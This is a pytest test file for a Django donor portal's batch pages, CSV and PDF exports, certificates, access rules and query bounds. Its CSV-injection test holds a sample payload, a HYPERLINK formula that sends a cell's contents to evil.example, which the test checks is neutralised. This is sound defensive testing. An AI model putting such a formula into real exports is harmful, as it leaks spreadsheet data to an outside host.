"""The donor portal: who sees what, what the batch page, the CSV, the PDF and the certificates hold, and
query counts that do not grow with the batch."""

import csv
import io
from urllib.parse import quote

import pytest
from django.contrib.auth import get_user_model
from django.core.files.base import ContentFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from django.utils.html import escape

from devices import selectors, services
from devices.models import BeneficiaryCategory, Device, DeviceEvent, Donor, IntakeBatch
from devices.tags import ALPHABET
from tests.devices.conftest import bring_to
from tests.helpers import pdf_text

S = Device.Status
K = DeviceEvent.Kind
pytestmark = pytest.mark.django_db
CERTIFICATE = b"%PDF-1.4\n% certificat d'effacement Blancco, lot Region\n%%EOF\n"


@pytest.fixture
def owner(donor):
    user = get_user_model().objects.create_user(email="elu@region.example", password="x" * 12)
    donor.users.add(user)
    return user


@pytest.fixture
def stranger(db, association):
    """A user of another donor, which has its own batch."""
    other = Donor.objects.create(name="La Poste", kind=Donor.Kind.COMPANY)
    IntakeBatch.objects.create(donor=other, association=association, reference="LAPOSTE-2023")
    user = get_user_model().objects.create_user(email="dr@laposte.example", password="x" * 12)
    other.users.add(user)
    return user


@pytest.fixture
def erased_device(make_device, technician):
    device = make_device(brand="Dell", model="Latitude 5490", serial="SN-CERT-1")
    services.device_erase(
        device=device,
        actor=technician,
        method="NIST SP 800-88 Purge",
        tool="Blancco",
        certificate=ContentFile(CERTIFICATE, name="certificat.pdf"),
    )
    return device


@pytest.fixture
def spread(erased_device, make_device, technician):
    """A batch with every kind of outcome: 2 sold, 1 rented, 1 donated, 1 recycled, 1 listed, 1 erased."""
    devices = {"erased": erased_device}
    for name, status in [
        ("sold", S.SOLD),
        ("rented", S.RENTED),
        ("donated", S.DONATED),
        ("recycled", S.RECYCLED),
        ("listed", S.LISTED),
    ]:
        devices[name] = bring_to(make_device(brand="Lenovo", model="T480"), status, technician)
    second = bring_to(make_device(category=Device.Category.DESKTOP, brand="HP"), S.LISTED, technician)
    services.device_sell(
        device=second, actor=technician, beneficiary_category="org_ccas", territory="29019", reference="ORDER-555-1"
    )
    devices["sold_ccas"] = second
    return devices


def _urls(batch, device):
    event = device.events.get(kind=K.ERASED)
    return {
        "page": f"/donateurs/lots/{batch.pk}/",
        "csv": f"/donateurs/lots/{batch.pk}/appareils.csv",
        "pdf": f"/donateurs/lots/{batch.pk}/rapport.pdf",
        "certificate": f"/donateurs/certificats/{event.pk}/",
    }


def _csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _cell_row(label, count):
    return f'<tr><td>{escape(str(label))}</td><td class="num">{count}</td></tr>'


# --- The owner ------------------------------------------------------------------------------------------


def test_home_lists_the_donors_batches_with_their_figures(client, owner, batch, spread, stranger):
    client.force_login(owner)
    html = client.get("/donateurs/").content.decode()
    assert f'href="/donateurs/lots/{batch.pk}/"' in html and "CONV-2022-01" in html
    # 7 devices, 4 reused, 5 processed (4 + 1 recycled): 80 %
    assert '<td class="num">7</td>' in html and '<td class="num">4</td>' in html and "80 %" in html
    assert "LAPOSTE-2023" not in html  # another donor's batch


def test_batch_page_shows_the_report_figures(client, owner, batch, spread):
    client.force_login(owner)
    response = client.get(f"/donateurs/lots/{batch.pk}/")
    assert response.status_code == 200
    html = response.content.decode()
    assert "<strong>7</strong>" in html and "<strong>4</strong>" in html and "<strong>80 %</strong>" in html
    report = selectors.batch_report(batch)
    expected_status = {S.SOLD: 2, S.RENTED: 1, S.DONATED: 1, S.RECYCLED: 1, S.LISTED: 1, S.IN_WORKSHOP: 1}
    for status in S:
        assert _cell_row(status.label, expected_status.get(status, 0)) in html, status
    for category, count in [
        (BeneficiaryCategory.INDIVIDUAL, 1),
        (BeneficiaryCategory.CCAS, 1),
        (BeneficiaryCategory.REGION_TRAINEE, 1),
        (BeneficiaryCategory.YOUTH_MISSION_LOCALE, 1),
    ]:
        assert _cell_row(category.label, count) in html
    assert _cell_row("35", 2) in html and _cell_row("29", 2) in html
    assert f"<strong>{report.environment['kg_co2e']}" in html.replace("\u202f", "").replace("&nbsp;", "")
    for device in spread.values():
        assert f"/appareil/{device.asset_tag}/" in html
    # the certificate link of the erased device
    event = spread["erased"].events.get(kind=K.ERASED)
    assert f"/donateurs/certificats/{event.pk}/" in html
    # no beneficiary's reference in the donor's view
    assert "ORDER-555" not in html
    # the environmental factors name each category in French, not by its code
    assert "<tr><td>Portable</td>" in html and "<tr><td>laptop</td>" not in html


def test_batch_page_paginates_by_50(client, owner, batch, make_device):
    for _ in range(51):
        make_device()
    client.force_login(owner)
    first = client.get(f"/donateurs/lots/{batch.pk}/").content.decode()
    second = client.get(f"/donateurs/lots/{batch.pk}/?page=2").content.decode()
    assert first.count('href="/appareil/') == 50 and second.count('href="/appareil/') == 1
    assert "<strong>51</strong>" in first and "<strong>51</strong>" in second


def test_csv_lists_every_device_with_its_status_outcome_and_erasure(client, owner, batch, spread):
    client.force_login(owner)
    response = client.get(f"/donateurs/lots/{batch.pk}/appareils.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == f'attachment; filename="lot-{batch.pk}-appareils.csv"'
    assert response.content.startswith("\ufeff".encode())
    header, *rows = _csv_rows(response)
    assert len(header) == 12 and len(rows) == 7
    assert header[-1] == "Par un partenaire relais"
    by_tag = {row[0]: row for row in rows}
    assert [row[0] for row in rows] == sorted(by_tag)
    sold = by_tag[spread["sold_ccas"].asset_tag]
    assert sold[1:9] == [
        spread["sold_ccas"].serial,
        str(Device.Category.DESKTOP.label),
        "HP",
        "",
        str(S.SOLD.label),
        "Déclic",
        str(BeneficiaryCategory.CCAS.label),
        "29",
    ]
    assert sold[9] == timezone.localdate().isoformat() and sold[10] == "NIST SP 800-88 Purge"
    erased = by_tag[spread["erased"].asset_tag]
    assert erased[5:] == [
        str(S.IN_WORKSHOP.label),
        "Déclic",
        "",
        "",
        timezone.localdate().isoformat(),
        "NIST SP 800-88 Purge",
        "",
    ]
    recycled = by_tag[spread["recycled"].asset_tag]
    assert recycled[5:] == [str(S.RECYCLED.label), "Déclic", "", "", "", "", ""]  # recycled without erasure
    assert "ORDER-555" not in response.content.decode("utf-8-sig")


def test_the_report_names_the_members_that_refurbished_the_devices(
    client, owner, batch, spread, other_association, technician
):
    """A device sent by the collecting member to another one and sold there: the portal, the CSV and the PDF
    say which members refurbished the batch, with the devices each gave a second life."""
    moved = spread["listed"]
    services.device_unlist(device=moved, actor=technician)
    services.device_transfer_send(device=moved, actor=technician, to_association=other_association)
    services.device_transfer_receive(device=moved, actor=technician)
    services.device_list_for_sale(device=moved, actor=technician)
    services.device_sell(
        device=moved, actor=technician, beneficiary_category=BeneficiaryCategory.INDIVIDUAL, territory="29"
    )
    assert selectors.batch_report(batch).by_member == [("Déclic", 6, 4), ("Atelier du Léon", 1, 1)]
    client.force_login(owner)
    home = client.get("/donateurs/").content.decode()
    assert "<td>Atelier du Léon, Déclic</td>" in home
    page = client.get(f"/donateurs/lots/{batch.pk}/").content.decode()
    assert '<tr><td>Atelier du Léon</td><td class="num">1</td><td class="num">1</td></tr>' in page
    rows = {row[0]: row for row in _csv_rows(client.get(f"/donateurs/lots/{batch.pk}/appareils.csv"))}
    assert rows[moved.asset_tag][6] == "Atelier du Léon"
    assert b"Atelier du L" in pdf_text(client.get(f"/donateurs/lots/{batch.pk}/rapport.pdf").content)


def test_pdf_report_is_a_pdf_with_the_figures(client, owner, batch, spread):
    client.force_login(owner)
    response = client.get(f"/donateurs/lots/{batch.pk}/rapport.pdf")
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;") and "rapport-region-bretagne-" in disposition
    text = pdf_text(response.content)
    assert b"Bretagne" in text and b"CONV-2022-01" in text and b"80,0 %" in text
    assert b"ORDER-555" not in text


@pytest.mark.parametrize("reference", ["Lot <2022> & co", "Bon n°12 <provisoire>", "Lot n° 3 > 2"])
def test_pdf_report_with_angle_brackets_and_ampersands(client, owner, donor, association, reference):
    batch = IntakeBatch.objects.create(donor=donor, association=association, reference=reference)
    client.force_login(owner)
    response = client.get(f"/donateurs/lots/{batch.pk}/rapport.pdf")
    assert response.status_code == 200 and response.content.startswith(b"%PDF")


@pytest.mark.parametrize(
    "donor_name,reference", [("Collège A<B", ""), ("Région Bretagne", "Lot x<y"), ("Mairie", "Lot <A>")]
)
def test_pdf_report_treats_names_as_text(client, owner, donor, association, donor_name, reference):
    donor.name = donor_name
    donor.save()
    batch = IntakeBatch.objects.create(donor=donor, association=association, reference=reference)
    client.force_login(owner)
    response = client.get(f"/donateurs/lots/{batch.pk}/rapport.pdf")
    assert response.status_code == 200
    text = pdf_text(response.content).replace(b") Tj (", b"")  # ReportLab puts "<" in a text run of its own
    for shown in (donor_name.split()[-1], reference):  # the ASCII end of each (accents are octal escapes)
        assert shown.encode() in text  # shown as written, not read as markup


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Détails")', "+33 2 99 00 00 00", "-2+3", "@SUM(A1:A9)"]


def test_csv_cells_are_never_read_as_formulas(client, owner, batch, make_device, technician):
    """Serials, brands and models come from donors' files and erasure methods from tools' reports: a cell a
    spreadsheet would read as a formula starts with an apostrophe."""
    devices = [
        make_device(serial=FORMULAS[0], brand=FORMULAS[1], model=FORMULAS[2]),
        make_device(serial="\tSN-TAB", brand="Dell", model="\r=1+1"),
        make_device(serial="SN-1-2", brand="HP", model="EliteBook 840 G5 - 14"),
    ]
    services.device_erase(device=devices[2], actor=technician, method=FORMULAS[3])
    client.force_login(owner)
    _header, *rows = _csv_rows(client.get(f"/donateurs/lots/{batch.pk}/appareils.csv"))
    by_tag = {row[0]: row for row in rows}
    formulas = by_tag[devices[0].asset_tag]
    assert formulas[1] == "'" + FORMULAS[0] and formulas[3:5] == ["'" + FORMULAS[1], "'" + FORMULAS[2]]
    assert by_tag[devices[1].asset_tag][1:5:3] == ["'\tSN-TAB", "'\r=1+1"]
    plain = by_tag[devices[2].asset_tag]
    assert plain[1:5] == ["SN-1-2", str(Device.Category.LAPTOP.label), "HP", "EliteBook 840 G5 - 14"]
    assert plain[10] == "'" + FORMULAS[3]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_certificate_is_the_uploaded_file_as_an_attachment(client, owner, batch, erased_device):
    client.force_login(owner)
    response = client.get(_urls(batch, erased_device)["certificate"])
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == CERTIFICATE
    assert response["Content-Disposition"].startswith("attachment")
    assert f"certificat-effacement-{erased_device.asset_tag}.pdf" in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == "application/pdf"
    assert "no-store" in response["Cache-Control"]


def test_an_erasure_without_certificate_and_other_events_are_404(client, owner, make_device, technician):
    device = make_device()
    services.device_erase(device=device, actor=technician, method="NIST")
    recycled = make_device()
    services.device_recycle(
        device=recycled, actor=technician, channel="DEEE", certificate=ContentFile(b"%PDF bordereau", name="b.pdf")
    )
    client.force_login(owner)
    for event in (device.events.get(kind=K.ERASED), device.events.get(kind=K.RECEIVED), recycled.events.last()):
        assert client.get(f"/donateurs/certificats/{event.pk}/").status_code == 404


def test_a_user_of_two_donors_sees_both(client, owner, batch, association):
    other = Donor.objects.create(name="Lycée Chateaubriand", kind=Donor.Kind.PUBLIC_BODY)
    other_batch = IntakeBatch.objects.create(donor=other, association=association, reference="LYCEE-1")
    other.users.add(owner)
    client.force_login(owner)
    html = client.get("/donateurs/").content.decode()
    assert "CONV-2022-01" in html and "LYCEE-1" in html
    assert client.get(f"/donateurs/lots/{other_batch.pk}/").status_code == 200


# --- Everyone else ------------------------------------------------------------------------------------------


def test_another_donor_gets_404_everywhere(client, stranger, batch, erased_device):
    client.force_login(stranger)
    for url in _urls(batch, erased_device).values():
        assert client.get(url).status_code == 404, url
    home = client.get("/donateurs/")
    assert home.status_code == 200 and "CONV-2022-01" not in home.content.decode()


def test_anonymous_visitors_are_sent_to_login(client, batch, erased_device):
    for url in ["/donateurs/", *_urls(batch, erased_device).values()]:
        response = client.get(url)
        assert response.status_code == 302, url
        assert response["Location"] == f"/compte/login/?next={quote(url)}", url


def test_a_user_linked_to_no_donor_gets_the_403_page(client, batch, erased_device):
    user = get_user_model().objects.create_user(email="client@exemple.bzh", password="x" * 12)
    client.force_login(user)
    response = client.get("/donateurs/")
    assert response.status_code == 403
    assert [t.name for t in response.templates][0] == "devices/donor_none.html"
    for url in _urls(batch, erased_device).values():
        assert client.get(url).status_code == 404, url


def test_a_superuser_linked_to_no_donor_sees_no_batch(client, batch, erased_device):
    admin = get_user_model().objects.create_superuser(email="admin@ogo.example", password="x" * 12)
    client.force_login(admin)
    assert client.get("/donateurs/").status_code == 403
    assert client.get(_urls(batch, erased_device)["csv"]).status_code == 404


def test_the_portal_only_answers_get(client, owner, batch, erased_device):
    client.force_login(owner)
    for url in _urls(batch, erased_device).values():
        assert client.post(url).status_code == 405, url


# --- Query bounds at 10,000 devices -------------------------------------------------------------------------

STATUS_SPREAD = [S.SOLD, S.SOLD, S.RENTED, S.DONATED, S.LISTED, S.RESERVED, S.READY, S.RECYCLED, S.PARTS, S.RECEIVED]
OUTCOME_KIND = {S.SOLD: K.SOLD, S.RENTED: K.RENTED, S.DONATED: K.DONATED}


def _tag(n: int) -> str:
    chars = []
    for _ in range(6):
        n, r = divmod(n, len(ALPHABET))
        chars.append(ALPHABET[r])
    return "".join(chars[:3]) + "-" + "".join(chars[3:])


def bulk_batch(donor, association, size, offset):
    """A batch of `size` devices and their events (received, erasure, outcome), by bulk inserts."""
    batch = IntakeBatch.objects.create(donor=donor, association=association, reference=f"BULK-{size}")
    categories = list(BeneficiaryCategory.values)
    rows = []
    for n in range(size):
        status = STATUS_SPREAD[n % len(STATUS_SPREAD)]
        reused = status in Device.REUSED
        rows.append(
            Device(
                batch=batch,
                association=association,
                category=Device.Category.LAPTOP if n % 3 else Device.Category.DESKTOP,
                serial=f"B{offset}-{n:06d}",
                brand="Dell",
                asset_tag=_tag(offset + n),
                status=status,
                needs_erasure=status in (S.RECEIVED, S.RECYCLED, S.PARTS),
                outcome_category=categories[n % len(categories)] if reused else "",
                outcome_territory="35238" if reused else "",
                outcome_department="35" if reused else "",
            )
        )
    devices = Device.objects.bulk_create(rows, batch_size=2000)
    events = []
    for d in devices:
        events.append(DeviceEvent(device=d, kind=K.RECEIVED, association=association, status_after=S.RECEIVED))
        if not d.needs_erasure:
            events.append(
                DeviceEvent(
                    device=d,
                    kind=K.ERASED,
                    association=association,
                    status_before=S.IN_WORKSHOP,
                    status_after=S.IN_WORKSHOP,
                    data={"method": "NIST SP 800-88 Purge", "result": "success"},
                    evidence="devices/certificates/run.pdf",
                )
            )
        if d.status in OUTCOME_KIND:
            events.append(
                DeviceEvent(
                    device=d,
                    kind=OUTCOME_KIND[d.status],
                    association=association,
                    status_before=S.LISTED,
                    status_after=d.status,
                    data={"beneficiary_category": d.outcome_category, "territory": d.outcome_territory},
                )
            )
    DeviceEvent.objects.bulk_create(events, batch_size=2000)
    return batch


def _queries(client, url):
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
        body = b"".join(response.streaming_content) if response.streaming else response.content
    assert response.status_code == 200, url
    return len(captured), body


# suffix of the batch URL: the most queries it may run (the count must also be the same at 10 and 10,000)
BOUNDS = {"": 15, "?page=2": 15, "?page=last": 15, "appareils.csv": 8, "rapport.pdf": 10}


def test_queries_do_not_grow_with_the_batch(client, owner, donor, association, django_assert_max_num_queries):
    """One set-up (10,000 devices and ~18,000 events by bulk inserts) for every URL: it is the slow part."""
    small = bulk_batch(donor, association, 10, 1_000_000)
    large = bulk_batch(donor, association, 10_000, 2_000_000)
    client.force_login(owner)
    counts = {}
    for suffix, bound in BOUNDS.items():
        for _warm_up in range(2):  # site settings rows created on first use, menu and footer caches
            client.get(f"/donateurs/lots/{small.pk}/{suffix}")
        for batch in (small, large):
            with django_assert_max_num_queries(bound):
                count, body = _queries(client, f"/donateurs/lots/{batch.pk}/{suffix}")
            counts[suffix, batch.devices.count()] = count
            if suffix == "appareils.csv":
                assert body.decode("utf-8-sig").count("\n") == batch.devices.count() + 1
            if suffix == "rapport.pdf":
                assert body.startswith(b"%PDF")
    for suffix in BOUNDS:
        assert counts[suffix, 10] == counts[suffix, 10_000], (suffix, counts)

    # and the figures of the large batch are right
    report = selectors.batch_report(large)
    assert (report.total, report.reused, report.processed) == (10_000, 4_000, 6_000)
    assert sum(n for _label, n in report.by_category) == 4_000
    assert report.by_department == [("35", 4_000)]
    html = client.get(f"/donateurs/lots/{large.pk}/").content.decode()
    assert "<strong>67 %</strong>" in html  # 4,000 ÷ 6,000
